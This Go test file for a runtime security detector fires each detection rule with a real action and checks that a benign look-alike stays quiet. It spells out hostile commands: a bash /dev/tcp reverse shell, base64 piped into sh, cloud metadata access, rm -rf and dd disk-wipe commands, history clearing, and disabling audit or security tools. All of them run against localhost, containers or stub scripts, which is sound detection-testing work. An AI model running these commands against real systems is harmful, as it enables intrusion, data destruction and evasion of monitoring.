package defaults_test

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/kestrel-project/kestrel/internal/testutil/dockertest"
)

// The rules of kestrel_network_rules.yaml (discovery, command and control,
// exfiltration, collection, impact, lateral movement, defence evasion),
// each fired by a real action and quiet for a benign look-alike. Network
// traffic stays on 127.0.0.1 or inside a container without a network.
func TestNetworkRulesLive(t *testing.T) {
	dir := t.TempDir()
	tools := filepath.Join(dir, "tools")
	if err := os.MkdirAll(tools, 0o755); err != nil {
		t.Fatal(err)
	}
	// busybox under a tool's name: the kernel names the process after it.
	for _, n := range []string{"nc", "httpd", "iodine", "dig", "rclone", "rsync", "xmrig", "xmllint"} {
		if err := os.Symlink("/usr/bin/busybox", filepath.Join(tools, n)); err != nil {
			t.Fatal(err)
		}
	}
	netScript(t, filepath.Join(tools, "auditctl"), "exit 0")
	netScript(t, filepath.Join(tools, "nginx"), "whoami >/dev/null")
	netScript(t, filepath.Join(tools, "mytool"), "whoami >/dev/null")
	// A web worker that shells out and runs ssh (a web shell's first steps),
	// and the same from a program that is no server.
	netScript(t, filepath.Join(tools, "uwsgi"), "sh -c true; ssh -V 2>/dev/null")
	netScript(t, filepath.Join(tools, "myworker"), "sh -c true; ssh -V 2>/dev/null")
	// A JVM running Tomcat (the process is java; its command line names
	// Catalina), and a JVM running a batch job.
	netScript(t, filepath.Join(tools, "java"), "sh -c 'true kestrel-java'")
	for _, f := range []string{"victim", "victim2", "served"} {
		if err := os.WriteFile(filepath.Join(dir, f), []byte("data\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	payload, data := "/tmp/kestrel-net-payload", "/tmp/kestrel-net-data"
	dl, etcTar := "/tmp/kestrel-net-dl", "/tmp/kestrel-net-etc.tar"
	for _, f := range []string{payload, data, dl, etcTar} {
		defer os.Remove(f)
	}

	// A directory under /media stands for a mounted USB stick.
	if err := os.MkdirAll("/media", 0o755); err != nil {
		t.Fatal(err)
	}
	media, err := os.MkdirTemp("/media", "kestrel-net-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(media)
	netScript(t, filepath.Join(tools, "systemctl"), "exit 0")
	// Harmless stand-ins named rm and dd: the kernel names a script's
	// process after the script, so the rule sees rm and dd with the
	// destructive arguments, and nothing is destroyed.
	netScript(t, filepath.Join(tools, "rm"), "exit 0")
	netScript(t, filepath.Join(tools, "dd"), "exit 0")

	// An SSH agent's socket (any listener at such a path: the rule is
	// about who connects), and another unix socket for the look-alike.
	agentDir := filepath.Join(dir, "ssh-kestrel")
	if err := os.Mkdir(agentDir, 0o700); err != nil {
		t.Fatal(err)
	}
	agentSock, otherSock := filepath.Join(agentDir, "agent.4242"), filepath.Join(dir, "other.sock")
	for _, p := range []string{agentSock, otherSock} {
		ln, err := net.Listen("unix", p)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() { // hang up at once: clients get an answer, not a wait
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
	}

	image := dockertest.Image(t, "kestrel-test/busybox:defaults-net")
	id := dockertest.Run(t, image, []string{"--cap-add", "NET_ADMIN"}, "sleep", "60")
	// The metadata address on the container's own loopback, and listeners
	// on it and on 127.0.0.1, all inside the container's empty network.
	netDocker(t, "exec", id, "ip", "addr", "add", "169.254.169.254/32", "dev", "lo")
	netDocker(t, "exec", "-d", id, "nc", "-l", "-p", "80")
	netDocker(t, "exec", "-d", id, "nc", "-l", "-p", "81")
	dx := "docker exec " + id + " "
	cpid := containerPid(t, id)
	waitListening(t, cpid, 80)
	waitListening(t, cpid, 81)

	as := fire(t, true, func(r *liveRun) {
		r.waitContainers(id)
		// Reverse shell: bash connects to a local listener and hands the
		// socket to sh as stdin/stdout (also: Outbound connection by a
		// shell, Listening socket opened by nc).
		background(t, tools+"/nc -l -p 47011 >/dev/null </dev/null")
		waitListening(t, 0, 47011)
		run(t, `bash -c 'exec 3<>/dev/tcp/127.0.0.1/47011; sh -c "echo kestrel-revshell" <&3 >&3 2>&3'`)
		// look-alike: a file, not a socket, becomes sh's stdout.
		run(t, `bash -c 'exec 3>`+dir+`/revfile; sh -c "echo kestrel-revfile" >&3'`)
		// look-alike of the outbound connection: nc (not a shell) connects.
		background(t, tools+"/nc -l -p 47013 >/dev/null </dev/null")
		waitListening(t, 0, 47013)
		run(t, "echo hi | "+tools+"/nc -w 1 127.0.0.1 47013")
		// look-alike of the listener: busybox httpd (not a relay tool),
		// stopped once it listens.
		stopHttpd := background(t, tools+"/httpd -f -p 127.0.0.1:47014")
		waitListening(t, 0, 47014)
		stopHttpd()
		// Cloud metadata, inside the container; look-alike: 127.0.0.1.
		run(t, dx+"sh -c 'echo hi | nc -w 1 169.254.169.254 80'")
		run(t, dx+"sh -c 'echo hi | nc -w 1 127.0.0.1 81'")
		// Packet socket and raw IP socket; look-alike: a UDP socket.
		run(t, `python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' kestrel-packet`)
		run(t, `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)' kestrel-rawip`)
		run(t, `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' kestrel-udp`)
		// The system's ping may open a raw socket; busybox copied under
		// the name ping, outside a system directory, is reported.
		run(t, "/usr/bin/ping -c 1 -W 1 127.0.0.1 >/dev/null")
		run(t, "cp /usr/bin/busybox "+dir+"/ping && "+dir+"/ping -c 1 -W 1 127.0.0.1 >/dev/null")
		run(t, tools+"/iodine -v 2>/dev/null") // DNS tunnelling tool
		run(t, tools+"/dig -v 2>/dev/null")    // look-alike
		// Download into /tmp from a web server on 127.0.0.1; look-alike:
		// the same download to /dev/null.
		stopHttpd = background(t, tools+"/httpd -f -p 127.0.0.1:47015 -h "+dir)
		waitListening(t, 0, 47015)
		run(t, "curl -s -o "+dl+" http://127.0.0.1:47015/served")
		run(t, "curl -s -o /dev/null http://127.0.0.1:47015/served?kestrel-devnull")
		stopHttpd()
		// Temporary file made executable; look-alike: made readable.
		run(t, "cp /bin/true "+payload+" && chmod +x "+payload)
		run(t, "echo x > "+data+" && chmod 644 "+data)
		// base64 into a shell; look-alike: into a file.
		run(t, `sh -c 'echo ZWNobyBoaQo= | base64 -d | sh; : kestrel-b64-hit' >/dev/null`)
		run(t, `sh -c 'echo ZWNobyBoaQo= | base64 -d > /dev/null; : kestrel-b64-benign'`)
		// Archive of /etc; look-alike: of a work directory.
		run(t, "tar -cf "+etcTar+" /etc/hostname 2>/dev/null")
		run(t, "tar -cf "+dir+"/work.tar -C "+dir+" victim2")
		run(t, tools+"/rclone version 2>/dev/null")  // Cloud exfiltration tool
		run(t, tools+"/rsync --version 2>/dev/null") // look-alike
		// whoami under a web server; look-alike: under another program.
		run(t, tools+"/nginx")
		run(t, tools+"/mytool")
		run(t, tools+"/uwsgi")
		run(t, tools+"/myworker")
		run(t, tools+"/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start")
		run(t, tools+"/java -jar /opt/batch/report.jar")
		// Network and process discovery in the container; look-alikes.
		run(t, dx+"ip addr show >/dev/null")
		run(t, dx+"ls /sys/class/net >/dev/null")
		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ps && /tmp/ps' >/dev/null")
		run(t, dx+"ls /proc >/dev/null")
		// Data destruction; look-alike: an ordinary rm -rf of a file.
		run(t, "shred -u "+dir+"/victim")
		run(t, "rm -rf --no-preserve-root "+dir+"/absent-kestrel")
		run(t, "rm -rf "+dir+"/victim2")
		run(t, tools+"/rm -Rf /home/")
		run(t, tools+"/rm -r -f '/*'")
		run(t, tools+"/rm --recursive --force /etc")
		run(t, tools+"/rm -rf /tmp/kestrel-net-absent") // look-alike
		run(t, tools+"/dd if=/dev/zero of=/dev/sdz bs=1M")
		run(t, tools+"/dd if=/dev/sdz of=/tmp/kestrel-net-absent.img") // look-alike: a disk read
		run(t, tools+"/xmrig --version 2>/dev/null")                   // miner
		run(t, tools+"/xmllint --version 2>/dev/null")                 // look-alike
		// ssh in the container; look-alike: ssh-keygen.
		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ssh && /tmp/ssh -V' 2>/dev/null")
		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ssh-keygen && /tmp/ssh-keygen -V' 2>/dev/null")
		// Security tool killed (no such process exists); look-alike.
		run(t, "pkill -x falco-kestrel-absent")
		run(t, "pkill -x net-absent-daemon")
		run(t, tools+"/systemctl stop falco-kestrel-unit")     // fake systemctl
		run(t, tools+"/systemctl status falco-kestrel-status") // look-alike
		run(t, tools+"/auditctl -D")                           // audit rules deleted
		run(t, tools+"/auditctl -l")                           // look-alike: listed
		// Copy to removable media; look-alike: to a work directory.
		run(t, "cp /etc/hostname "+media+"/loot")
		run(t, "cp /etc/hostname "+dir+"/copy")
		// A program connecting to an SSH agent's socket; look-alike: to
		// another unix socket.
		unixConnect := `python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' `
		run(t, unixConnect+agentSock+" kestrel-agent-hit")
		run(t, unixConnect+otherSock+" kestrel-agent-benign")
		run(t, "SSH_AUTH_SOCK="+agentSock+" ssh-add -l >/dev/null 2>&1 || true") // look-alike: the SSH tools
		run(t, `bash -c 'unset HISTFILE; : kestrel-hist-hit'`)
		run(t, `bash -c 'echo "$HISTSIZE" >/dev/null; : kestrel-hist-benign'`)
	})
	inC := func(a firedAlert) bool { return a.OutputFields["container.id"] == id[:12] }
	and := func(f, g func(firedAlert) bool) func(firedAlert) bool {
		return func(a firedAlert) bool { return f(a) && g(a) }
	}
	cmdIs := func(c string) func(firedAlert) bool {
		return func(a firedAlert) bool { return a.OutputFields["proc.cmdline"] == c }
	}
	parentCmdHas := func(s string) func(firedAlert) bool {
		return func(a firedAlert) bool {
			c, _ := a.OutputFields["proc.pcmdline"].(string)
			return strings.Contains(c, s)
		}
	}
	parentIs := func(n string) func(firedAlert) bool {
		return func(a firedAlert) bool { return a.OutputFields["proc.pname"] == n }
	}
	checks := []struct {
		rule       string
		hit, quiet func(firedAlert) bool
	}{
		{"Reverse shell redirects standard streams to a socket", procIs("kestrel-revshell"), procIs("kestrel-revfile")},
		{"Outbound connection by a shell or interpreter", procIs("kestrel-revshell"), procIs("47013")},
		{"Connection to a cloud metadata service", and(inC, procIs("169.254.169.254")), procIs("127.0.0.1 81")},
		{"Packet or raw socket created", procIs("kestrel-packet"), procIs("kestrel-udp")},
		{"Packet or raw socket created", procIs("kestrel-rawip"), procIs("ip addr show")},
		{"Packet or raw socket created", exeIs(dir + "/ping"), exeIs("/usr/bin/ping")},
		{"Listening socket opened by a shell or relay tool", procIs("nc -l -p 47011"), procIs("47014")},
		{"DNS tunnelling tool executed", procIs("iodine"), procIs("dig")},
		{"Download tool writing to a temporary directory", procIs(dl), procIs("kestrel-devnull")},
		{"File in a temporary directory made executable", procIs("chmod +x " + payload), procIs(data)},
		{"Base64 payload decoded into a shell", procIs("kestrel-b64-hit"), procIs("kestrel-b64-benign")},
		{"Archive of home directories or system configuration", procIs(etcTar), procIs("work.tar")},
		{"Cloud exfiltration tool executed", procIs("rclone"), procIs("rsync")},
		{"System discovery by a service process", parentIs("nginx"), parentIs("mytool")},
		{"Shell spawned by a web or application server", and(parentIs("uwsgi"), cmdIs("sh -c true")), parentIs("myworker")},
		{"Shell spawned by a web or application server", and(parentIs("java"), parentCmdHas("org.apache.catalina")), parentCmdHas("report.jar")},
		{"Remote login client run by a service process", and(parentIs("uwsgi"), cmdIs("ssh -V")), parentIs("myworker")},
		{"Network discovery in a container", and(inC, procIs("ip addr show")), procIs("ls /sys/class/net")},
		{"Process discovery in a container", and(inC, cmdIs("ps")), procIs("ls /proc")},
		{"Data destruction command", procIs("shred -u"), procIs("victim2")},
		{"Data destruction command", procIs("--no-preserve-root"), procIs("victim2")},
		{"Data destruction command", procIs("rm -Rf /home/"), procIs("kestrel-net-absent")},
		{"Data destruction command", procIs("rm -r -f /*"), procIs("kestrel-net-absent")},
		{"Data destruction command", procIs("rm --recursive --force /etc"), procIs("kestrel-net-absent")},
		{"Data destruction command", procIs("of=/dev/sdz"), procIs("kestrel-net-absent")},
		{"Cryptocurrency miner executed", procIs("xmrig"), procIs("xmllint")},
		{"SSH client run in a container", and(inC, cmdIs("ssh -V")), cmdIs("ssh-keygen -V")},
		{"Security tool stopped or killed", procIs("falco-kestrel-absent"), procIs("net-absent-daemon")},
		{"Security tool stopped or killed", procIs("falco-kestrel-unit"), procIs("falco-kestrel-status")},
		{"Data copied to removable media", procIs(media), procIs(dir + "/copy")},
		{"Audit rules deleted or auditing disabled", procIs("auditctl -D"), procIs("auditctl -l")},
		{"Shell history disabled or cleared", procIs("kestrel-hist-hit"), procIs("kestrel-hist-benign")},
		{"SSH agent socket used by another program", procIs("kestrel-agent-hit"), procIs("kestrel-agent-benign")},
		{"SSH agent socket used by another program", procIs("kestrel-agent-hit"), procIs("ssh-add -l")},
	}
	for _, c := range checks {
		if len(fired(as, c.rule, c.hit)) == 0 {
			t.Errorf("%s: not raised by its action", c.rule)
		}
		if q := fired(as, c.rule, c.quiet); len(q) > 0 {
			t.Errorf("%s: raised by the benign look-alike: %s", c.rule, q[0].Output)
		}
	}
	if t.Failed() {
		for _, a := range as {
			t.Logf("alert: %s: %s", a.Rule, a.Output)
		}
	}
}

// netScript writes an executable shell script at path.
func netScript(t *testing.T, path, body string) {
	t.Helper()
	if err := os.WriteFile(path, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
}

// background starts a shell command in a process group of its own and
// returns what stops it (SIGTERM to the group, then waits); the test's
// end stops it too, so that an aborted test leaves no listener behind.
func background(t *testing.T, script string) func() {
	t.Helper()
	cmd := exec.Command("/bin/sh", "-c", "exec "+script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	var once sync.Once
	stop := func() {
		once.Do(func() {
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM)
			_ = cmd.Wait()
		})
	}
	t.Cleanup(stop)
	return stop
}

// netDocker runs a docker command for the test's setup.
func netDocker(t *testing.T, args ...string) {
	t.Helper()
	if out, err := exec.Command("docker", args...).CombinedOutput(); err != nil {
		t.Fatalf("docker %s: %v %s", strings.Join(args, " "), err, out)
	}
}
